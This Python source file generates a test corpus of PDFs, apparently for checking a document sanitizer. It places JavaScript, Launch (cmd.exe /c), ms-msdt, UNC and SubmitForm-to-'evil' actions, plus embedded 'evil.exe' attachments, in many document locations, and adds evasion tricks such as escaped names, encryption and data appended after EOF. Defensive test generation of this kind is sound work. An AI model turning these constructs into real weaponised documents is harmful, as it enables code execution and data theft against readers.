"""PDF: actions in every position, annotations that act, files inside and outside, and the ways of hiding them."""
import zlib

from .pdf import Pdf, name
from .sample import Sample

ACTIONS = {
	'javascript': lambda m: b'/S/JavaScript/JS(app.alert\\(%s\\))' % m, 'javascript-hex': lambda m: b'/S/JavaScript/JS<%s>' % m.hex().encode(),
	'javascript-octal': lambda m: b'/S/JavaScript/JS(%s)' % b''.join(b'\\%03o' % c for c in m), 'javascript-utf16': lambda m: b'/S/JavaScript/JS<FEFF%s>' % m.decode().encode('utf-16-be').hex().encode(),
	'launch': lambda m: b'/S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c %s)>>' % m, 'launch-unix': lambda m: b'/S/Launch/Unix(%s)' % m, 'launch-mac': lambda m: b'/S/Launch/Mac(%s)' % m,
	'uri-file': lambda m: b'/S/URI/URI(file:///%s)' % m, 'uri-javascript': lambda m: b'/S/URI/URI(javascript:%s)' % m, 'uri-unc': lambda m: b'/S/URI/URI(\\\\\\\\evil\\\\%s)' % m,
	'uri-ms': lambda m: b'/S/URI/URI(ms-msdt:/id %s)' % m, 'uri-data': lambda m: b'/S/URI/URI(data:text/html,%s)' % m, 'uri-map': lambda m: b'/S/URI/IsMap true/URI(smb://%s)' % m,
	'goto-remote': lambda m: b'/S/GoToR/F(%s.pdf)/D[0/Fit]' % m, 'goto-embedded': lambda m: b'/S/GoToE/T<</R/C/N(%s)>>/D[0/Fit]' % m, 'goto-dp': lambda m: b'/S/GoToDp/Dp<</X(%s)>>' % m,
	'thread': lambda m: b'/S/Thread/F(%s.pdf)/D 0' % m, 'submit': lambda m: b'/S/SubmitForm/F<</FS/URL/F(http://evil/%s)>>' % m, 'import': lambda m: b'/S/ImportData/F(%s.fdf)' % m,
	'reset': lambda m: b'/S/ResetForm/Fields[(%s)]' % m, 'named': lambda m: b'/S/Named/N/%s' % m, 'sound': lambda m: b'/S/Sound/Sound<</X(%s)>>' % m, 'movie': lambda m: b'/S/Movie/T(%s)' % m,
	'rendition': lambda m: b'/S/Rendition/JS(%s)/OP 0' % m, 'goto-3d': lambda m: b'/S/GoTo3DView/V(%s)' % m, 'rich-media': lambda m: b'/S/RichMediaExecute/CMD<</C(%s)>>' % m,
	'layers': lambda m: b'/S/SetOCGState/State[/ON]/X(%s)' % m, 'hide': lambda m: b'/S/Hide/T(%s)' % m, 'unknown': lambda m: b'/S/%s/X(%s)' % (m, m),
	'chain': lambda m: b'/S/URI/URI(https://example.jp/)/Next<</S/JavaScript/JS(%s)>>' % m, 'chain-list': lambda m: b'/S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/D[3 0 R/Fit]/Next<</S/Launch/F(%s)>>>>]' % m,
}

POSITIONS = {
	'open': lambda p, a: p.put(1, b'/OpenAction<<' + a + b'>>'),
	'catalogue': lambda p, a: p.put(1, b'/AA<</WC<<' + a + b'>>/DS<<' + a + b'>>>>'),
	'page': lambda p, a: p.put(3, b'/AA<</O<<' + a + b'>>/C<<' + a + b'>>>>'),
	'link': lambda p, a: p.annotation(b'/Subtype/Link/A<<' + a + b'>>'),
	'link-pa': lambda p, a: p.annotation(b'/Subtype/Link/Dest[3 0 R/Fit]/PA<<' + a + b'>>'),
	'annotation': lambda p, a: p.annotation(b'/Subtype/Square/AA<<' + b''.join(name(k) + b'<<' + a + b'>>' for k in ('E', 'X', 'D', 'U', 'Fo', 'Bl', 'PO', 'PC', 'PV', 'PI')) + b'>>'),
	'field': lambda p, a: p.field(b'/FT/Tx/T(f)/V(v)/DA(/F1 12 Tf)/AA<<' + b''.join(name(k) + b'<<' + a + b'>>' for k in 'KFVC') + b'>>'),
	'button': lambda p, a: p.field(b'/FT/Btn/Ff 65536/T(b)/A<<' + a + b'>>/MK<</CA(push)>>'),
	'screen': lambda p, a: p.annotation(b'/Subtype/Screen/A<<' + a + b'>>'),
	'outline': lambda p, a: outline(p, a),
	'names': lambda p, a: p.put(1, b'/Names<</JavaScript<</Names[(x)<<' + a + b'>>]>>>>'),
	'destination': lambda p, a: p.put(1, b'/Names<</Dests<</Names[(x)<<' + a + b'>>]>>>>'),
	'navigation': lambda p, a: p.put(3, b'/PresSteps<</Type/NavNode/NA<<' + a + b'>>/PA<<' + a + b'>>>>'),
	'requirement': lambda p, a: p.put(1, b'/Requirements[<</S/EnableJavaScripts/RH<</S/JS/Script(' + b'x' + b')>>/X<<' + a + b'>>>>]'),
}


def outline(p, action):
	item = p.add(b'')
	root = p.add(b'<</Type/Outlines/First %d 0 R/Last %d 0 R/Count 1>>' % (item, item))
	p.add(b'<</Title(chapter)/Parent %d 0 R/A<<' % root + action + b'>>>>', item)
	p.put(1, b'/Outlines %d 0 R' % root)


def embedded(p, m):
	data = p.stream(b'/Type/EmbeddedFile', b'MZ' + m)
	return p.add(b'<</Type/Filespec/F(evil.exe)/UF(evil.exe)/Desc(%s)/EF<</F %d 0 R>>>>' % (m, data))


def xfa(p, m):
	data = p.stream(b'', b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>%s</script></xdp:xdp>' % m)
	p.field(b'/FT/Tx/T(f)/DA(/F1 12 Tf)')
	p.objects[1] = p.objects[1].replace(b'/AcroForm<<', b'/AcroForm<</XFA[(template)%d 0 R]' % data)


def xobject(p, number):
	p.objects[3] = p.objects[3].replace(b'/Resources<<', b'/Resources<</XObject<</X %d 0 R>>' % number)


PLACES = {
	'embedded-names': lambda p, m: p.put(1, b'/Names<</EmbeddedFiles<</Names[(x)%d 0 R]>>>>' % embedded(p, m)),
	'embedded-annotation': lambda p, m: p.annotation(b'/Subtype/FileAttachment/FS %d 0 R/Contents(%s)' % (embedded(p, m), m)),
	'associated-catalogue': lambda p, m: p.put(1, b'/AF[%d 0 R]' % embedded(p, m)), 'associated-page': lambda p, m: p.put(3, b'/AF[%d 0 R]' % embedded(p, m)),
	'collection': lambda p, m: p.put(1, b'/Collection<</Type/Collection/D(%s)/View/D>>/Names<</EmbeddedFiles<</Names[(x)%d 0 R]>>>>' % (m, embedded(p, m))),
	'xfa': xfa, 'calculation': lambda p, m: (p.field(b'/FT/Tx/T(f)/DA(/F1 12 Tf)/AA<</C<</S/JavaScript/JS(%s)>>>>' % m), p.objects.update({1: p.objects[1].replace(b'/AcroForm<<', b'/AcroForm<</CO[6 0 R]')})),
	'metadata': lambda p, m: p.put(1, b'/Metadata %d 0 R' % p.stream(b'/Type/Metadata/Subtype/XML', b'<x:xmpmeta xmlns:x="adobe:ns:meta/">%s</x:xmpmeta>' % m)),
	'metadata-page': lambda p, m: p.put(3, b'/Metadata %d 0 R' % p.stream(b'/Type/Metadata/Subtype/XML', m)), 'private': lambda p, m: p.put(3, b'/PieceInfo<</Evil<</Private(%s)>>>>' % m),
	'private-catalogue': lambda p, m: p.put(1, b'/PieceInfo<</Evil<</Private(%s)>>>>' % m), 'unknown-key': lambda p, m: p.put(1, b'/Evil(%s)' % m), 'unknown-key-page': lambda p, m: p.put(3, b'/Evil<</A[(%s)]>>' % m),
	'uri-base': lambda p, m: p.put(1, b'/URI<</Base(http://evil/%s)>>' % m), 'spider': lambda p, m: p.put(1, b'/SpiderInfo<</V 1.0/C[<</URL(http://%s)>>]>>' % m), 'legal': lambda p, m: p.put(1, b'/Legal<</Attestation(%s)>>' % m),
	'perms': lambda p, m: p.put(1, b'/Perms<</DocMDP<</Type/Sig/Contents(%s)>>>>' % m), 'dss': lambda p, m: p.put(1, b'/DSS<</Certs[%d 0 R]>>' % p.stream(b'', m)), 'threads': lambda p, m: p.put(1, b'/Threads[<</I<</Title(%s)>>>>]' % m),
	'extensions': lambda p, m: p.put(1, b'/Extensions<</EVIL<</URL(%s)>>>>' % m), 'signature': lambda p, m: p.field(b'/FT/Sig/T(s)/V<</Type/Sig/Filter/Adobe.PPKLite/Name(%s)/Contents<%s>/ByteRange[0 1 2 3]>>' % (m, m.hex().encode())),
	'screen': lambda p, m: p.annotation(b'/Subtype/Screen/T(%s)/MK<</CA(%s)>>' % (m, m)), 'sound': lambda p, m: p.annotation(b'/Subtype/Sound/Sound %d 0 R' % p.stream(b'/Type/Sound/R 8000', m)),
	'movie': lambda p, m: p.annotation(b'/Subtype/Movie/Movie<</F(%s.avi)>>' % m), 'rich-media': lambda p, m: p.annotation(b'/Subtype/RichMedia/RichMediaContent<</Assets<</Names[(%s)%d 0 R]>>>>' % (m, embedded(p, m))),
	'3d': lambda p, m: p.annotation(b'/Subtype/3D/3DD %d 0 R' % p.stream(b'/Type/3D/Subtype/U3D', m)), 'printer-mark': lambda p, m: p.annotation(b'/Subtype/PrinterMark/MN/%s' % m),
	'trap-net': lambda p, m: p.annotation(b'/Subtype/TrapNet/Version[(%s)]' % m), 'unknown-annotation': lambda p, m: p.annotation(b'/Subtype/%s/Contents(%s)' % (m, m)),
	'postscript-xobject': lambda p, m: xobject(p, p.stream(b'/Type/XObject/Subtype/PS', b'%% %s' % m)), 'form-postscript': lambda p, m: xobject(p, p.stream(b'/Type/XObject/Subtype/Form/Subtype2/PS/BBox[0 0 1 1]/PS %d 0 R' % p.stream(b'', m), b'')),
	'reference-xobject': lambda p, m: xobject(p, p.stream(b'/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Ref<</F(%s.pdf)/Page 0>>' % m, b'')), 'opi': lambda p, m: xobject(p, p.stream(b'/Type/XObject/Subtype/Form/BBox[0 0 1 1]/OPI<</2.0<</F(%s)>>>>' % m, b'')),
	'alternate': lambda p, m: xobject(p, p.stream(b'/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/Alternates[<</Image %d 0 R>>]' % p.stream(b'/Subtype/Image', m), b'\0')),
	'external-stream': lambda p, m: xobject(p, p.stream(b'/Type/XObject/Subtype/Form/BBox[0 0 1 1]/F(%s.bin)/FFilter/FlateDecode' % m, b'')), 'crypt-filter': lambda p, m: p.add(b'<</Length %d/Filter[/Crypt]/DecodeParms[<</Name/%s>>]>>stream\n%s\nendstream' % (len(m), m, m)),
	'image-tail': lambda p, m: xobject(p, p.stream(b'/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray', b'\0' + m)), 'font-junk': lambda p, m: font(p, m),
	'profile-junk': lambda p, m: xobject(p, p.stream(b'/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace[/ICCBased %d 0 R]' % p.stream(b'/N 1', m * 20), b'\0')),
	'content-comment': lambda p, m: p.stream(b'', content(p) + b'%% %s\n' % m, 4), 'content-operator': lambda p, m: p.stream(b'', content(p) + b'(%s) EVIL\n' % m, 4), 'content-point': lambda p, m: p.stream(b'', content(p) + b'/Evil<</X(%s)>> DP\n' % m, 4),
	'content-tail': lambda p, m: p.stream(b'', content(p) + b'\nQ Q (%s)' % m, 4), 'unreferenced': lambda p, m: p.stream(b'', m), 'thumbnail': lambda p, m: p.put(3, b'/Thumb %d 0 R' % p.stream(b'/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8', m)),
	'cmap-program': lambda p, m: p.put(5, b'/ToUnicode %d 0 R' % p.stream(b'', b'/evil (%s) def\n1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfchar <41> <0041> endbfchar\n' % m)),
	'structure': lambda p, m: p.put(1, b'/StructTreeRoot<</Type/StructTreeRoot/AF[%d 0 R]/PronunciationLexicon[(%s)]>>' % (embedded(p, m), m)), 'output-intent': lambda p, m: p.put(1, b'/OutputIntents[<</S/GTS_PDFX/OutputConditionIdentifier(x)/DestOutputProfileRef<</URLs[(%s)]>>>>]' % m),
	'halftone': lambda p, m: p.objects.update({3: p.objects[3].replace(b'/Resources<<', b'/Resources<</ExtGState<</G<</HT %d 0 R>>>>' % p.stream(b'/HalftoneType 6/Width 4/Height 4', m))}), 'templates': lambda p, m: p.put(1, b'/Names<</Templates<</Names[(%s)3 0 R]>>>>' % m),
	'info': lambda p, m: p.add(b'<</Producer(%s)>>' % m),
}


def content(p):
	return zlib.decompress(p.objects[4].partition(b'stream\n')[2][:-len(b'\nendstream')])


def font(p, m):
	program = p.stream(b'/Length1 400', m * 20)
	p.objects[5] = b'<</Type/Font/Subtype/TrueType/BaseFont/Evil/Encoding/WinAnsiEncoding/FontDescriptor<</Type/FontDescriptor/FontName/Evil/Flags 32/FontFile2 %d 0 R>>>>' % program


def devious(action):
	"""The same with names escaped."""
	for word in ('JavaScript', 'JS', 'Launch', 'Win', 'URI', 'GoToR', 'SubmitForm', 'S'):
		action = action.replace(b'/' + word.encode() + b'/', name(word, True) + b'/').replace(b'/' + word.encode() + b'(', name(word, True) + b'(').replace(b'/' + word.encode() + b'<', name(word, True) + b'<')
	return action


def acting(position, action):
	def build(mark, keep):
		p = Pdf(keep)
		POSITIONS[position](p, ACTIONS[action](mark.encode()))
		return p
	return build


def placed(place):
	def build(mark, keep):
		p = Pdf(keep)
		PLACES[place](p, mark.encode())
		return p
	return build


def updated(mark, keep):
	p = Pdf(keep)
	return p.updated({1: p.objects[1].replace(b'<<', b'<</OpenAction<</S/JavaScript/JS(%s)>>' % mark.encode())})


def shadowed(mark, keep):
	"""The first revision says something else than the second."""
	p = Pdf(keep)
	before = dict(p.objects)
	p.stream(b'', b'BT /F1 12 Tf 72 770 Td (%s) Tj ET' % mark.encode(), 4)
	return p.updated({4: before[4]})


def loops(mark, keep):
	p = Pdf(keep)
	p.put(1, b'/Outlines 6 0 R')
	p.add(b'<</First 7 0 R/Last 7 0 R>>', 6)
	p.add(b'<</Title(a)/Parent 6 0 R/Next 7 0 R/Prev 7 0 R/First 6 0 R/A<</S/JavaScript/JS(%s)/Next 7 0 R>>>>' % mark.encode(), 7)
	p.objects[2] = b'<</Type/Pages/Kids[3 0 R 2 0 R]/Count 2>>'
	return p.bytes()


# attacks that only who knows each key's meaning can see
UNSEEN = {'content-tail', 'profile-junk', 'output-intent', 'content-operator', 'uri-base', 'unreferenced', 'info', 'signature', 'image-tail', 'cmap-program', 'font-junk', 'unknown-key', 'unknown-key-page',
	'unknown-annotation', 'content-point', 'content-comment', 'crypt-filter'}
HIDING = {
	'escaped': lambda p: p.bytes(objects={n: b if b'stream\n' in b else devious(b) for n, b in p.objects.items()}),
	'bundled': lambda p: p.bundled(), 'encrypted': lambda p: p.encrypted(), 'no-table': lambda p: p.bytes().partition(b'xref\n')[0] + b'trailer\n<</Root 1 0 R>>\n',
	'late-header': lambda p: p.bytes(b'\r\n' * 300 + b'%PDF-1.4\n', at=0),
}

WHOLE = {
	'updated': updated, 'shadowed': shadowed, 'loops': loops,
	'after-end': lambda m, k: Pdf(k).bytes() + b'MZ' + m.encode(), 'after-end-pdf': lambda m, k: Pdf(k).bytes() + Pdf(m).bytes().replace(b'%%EOF', b'%%eof'),
	'before-header': lambda m, k: Pdf(k).bytes(b'<script>%s</script>\n%%PDF-1.7\n' % m.encode()), 'comment': lambda m, k: Pdf(k).bytes(b'%%PDF-1.7\n%%%s\n' % m.encode()),
	'trailer-key': lambda m, k: Pdf(k).bytes(trailer=b'/Evil(%s)' % m.encode()), 'info': lambda m, k: Pdf(k).bytes(trailer=b'/Info<</Author(%s)/Producer(%s)/Title(t)>>' % (m.encode(), m.encode())),
	'identifier': lambda m, k: Pdf(k).bytes(trailer=b'/ID[(%s)(%s)]' % (m.encode(), m.encode())), 'generation': lambda m, k: Pdf(k).bytes().replace(b'5 0 obj', b'9 7 obj<</X(%s)>>endobj\n5 0 obj' % m.encode(), 1),
}


def samples():
	for action in ACTIONS:
		for position in POSITIONS:
			telling = (action, position) in {('javascript', 'open'), ('launch', 'link'), ('chain', 'link')}
			build = acting(position, action)
			yield Sample('pdf/action-%s-%s.pdf' % (action, position), 'PDF: actions', lambda m, k, b=build: b(m, k).bytes(), telling=telling, verdicts=('sanitized',), quiet=action == 'unknown')
	for place in PLACES:
		build = placed(place)
		clean = place in ('unreferenced', 'info', 'crypt-filter', 'image-tail', 'content-comment', 'metadata', 'metadata-page', 'private', 'private-catalogue', 'unknown-key', 'unknown-key-page', 'extensions',
			'content-operator', 'content-point', 'cmap-program', 'output-intent')
		yield Sample('pdf/place-%s.pdf' % place, 'PDF: positions', lambda m, k, b=build: b(m, k).bytes(), telling=place in ('xfa', 'embedded-names'), verdicts=('sanitized', 'clean') if clean or place in ('thumbnail', 'halftone', 'content-tail') else ('sanitized',), quiet=place in UNSEEN)
	for hiding, hide in HIDING.items():
		for position in POSITIONS:
			for action in ('javascript', 'launch', 'chain', 'uri-file'):
				build = acting(position, action)
				yield Sample('pdf/hidden-%s-%s-%s.pdf' % (hiding, action, position), 'PDF: structure', lambda m, k, b=build, h=hide: h(b(m, k)), verdicts=('sanitized',), telling=(hiding, position, action) == ('bundled', 'open', 'javascript'))
	for whole, make in WHOLE.items():
		yield Sample('pdf/whole-%s.pdf' % whole, 'PDF: structure', make, verdicts=('sanitized', 'clean'), quiet=True)
	yield Sample('pdf/harmless.pdf', 'PDF', lambda m, k: Pdf(k).bytes(), verdicts=('clean',), harmless=True)
